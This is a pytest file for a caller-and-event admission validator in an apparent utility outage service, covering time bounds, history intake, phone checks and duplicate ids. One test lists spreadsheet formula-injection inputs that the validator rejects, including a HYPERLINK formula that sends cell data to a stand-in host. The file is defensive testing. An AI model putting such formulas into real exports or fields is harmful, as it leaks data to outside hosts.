"""Admission (correlators/admission.py): which event times, callers and ids the service takes."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from correlators.admission import (
    RecentIds,
    Refused,
    TimeBounds,
    admit,
    check_phone,
    content_digest,
)
from correlators.rules import CorrelationRules
from events.inbound import CallReported, EtrSet, PlannedWorkScheduled, ScadaSignal

NOW = datetime(2026, 12, 7, 21, 0, tzinfo=UTC)
BOUNDS = TimeBounds.of(CorrelationRules.load())


def call(occurred_at: datetime, **fields: Any) -> CallReported:
    return CallReported(
        event_id="c1", occurred_at=occurred_at, utility="heat", premise_id="P-1", **fields
    )


def refusal(event: Any, *, history: bool = False) -> Refused:
    with pytest.raises(Refused) as caught:
        admit(event, NOW, BOUNDS, history=history)
    return caught.value


def test_the_defaults_allow_five_minutes_of_skew_and_48_hours_back() -> None:
    """The bounds come from the rules: 300 s ahead, the 48 h de-duplication horizon back."""
    assert BOUNDS.skew == timedelta(minutes=5) and BOUNDS.horizon == timedelta(hours=48)


def test_an_event_within_the_skew_is_taken_and_one_past_it_is_refused() -> None:
    """Four minutes ahead passes (a drifting clock); year 9999 is refused naming the field."""
    admit(call(NOW + timedelta(minutes=4)), NOW, BOUNDS)
    refused = refusal(call(datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)))
    assert refused.field == "occurred_at" and "5 min ahead" in refused.reason


def test_an_event_past_the_horizon_is_refused_live_and_taken_as_history() -> None:
    """A call from 2013 is refused live (the reason names /v1/history) and taken as history."""
    old = call(datetime(2013, 12, 25, 12, tzinfo=UTC))
    assert "/v1/history" in refusal(old).reason
    admit(old, NOW, BOUNDS, history=True)
    admit(call(NOW - timedelta(hours=47)), NOW, BOUNDS)


def test_history_takes_only_calls_from_1970_on_and_never_from_the_future() -> None:
    """History refuses a SCADA signal, a call before 1970-01-02 and a call ahead of the clock."""
    signal = ScadaSignal(event_id="s", occurred_at=NOW, device_id="D", signal="breaker_open")
    assert refusal(signal, history=True).field == "type"
    assert refusal(call(datetime(1969, 7, 20, tzinfo=UTC)), history=True).field == "occurred_at"
    assert refusal(call(NOW + timedelta(days=1)), history=True).field == "occurred_at"


def test_planned_works_and_etrs_reach_at_most_the_plan_ahead_bound() -> None:
    """A work ending in year 9999 or an ETR 30 years ahead is refused; next month is taken."""

    def work(ends: datetime) -> PlannedWorkScheduled:
        return PlannedWorkScheduled(
            event_id="w",
            occurred_at=NOW,
            work_id="W",
            device_ids=("D",),
            starts_at=NOW,
            ends_at=ends,
        )

    admit(work(NOW + timedelta(days=30)), NOW, BOUNDS)
    assert refusal(work(datetime(9999, 1, 1, tzinfo=UTC))).field == "ends_at"
    etr = EtrSet(
        event_id="e",
        occurred_at=NOW,
        incident_id="I",
        by="lead",
        etr=NOW + timedelta(days=365 * 30),
    )
    assert refusal(etr).field == "etr"


@pytest.mark.parametrize(
    "number", ["+1 212 555 0100", "+1 (212) 555-0100", "030/5551.0203", "112", "2125550100"]
)
def test_phone_numbers_as_people_write_them_are_callers(number: str) -> None:
    """Digits with spaces, a leading +, brackets, dots, slashes and dashes are a caller."""
    check_phone(number)


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://e.example/?"&A1)', "anonymous", "12", "1+2125550100", "@SUM(1)", "-1-"],
)
def test_anything_else_is_no_caller(text: str) -> None:
    """Formulas, words, too few digits and a + inside are refused, naming the field."""
    with pytest.raises(Refused) as caught:
        check_phone(text)
    assert caught.value.field == "caller"


def test_a_call_with_a_formula_for_a_caller_is_not_admitted() -> None:
    """admit() checks the caller of a call."""
    assert refusal(call(NOW, caller="=1+2")).field == "caller"


def test_recent_ids_tell_a_resend_from_a_reused_id() -> None:
    """The same content again is no conflict; other content under a known id is one."""
    ids = RecentIds(capacity=2)
    first = call(NOW, symptom="no_heat")
    ids.remember("c1", content_digest(first))
    resent = first.model_copy(update={"recorded_at": NOW, "recorded_by": "key:crm"})
    assert not ids.conflicts("c1", content_digest(resent))
    assert ids.conflicts("c1", content_digest(call(NOW, symptom="leak")))
    ids.remember("c2", "x")
    ids.remember("c3", "y")  # past capacity: the oldest id is forgotten
    assert not ids.conflicts("c1", "anything")
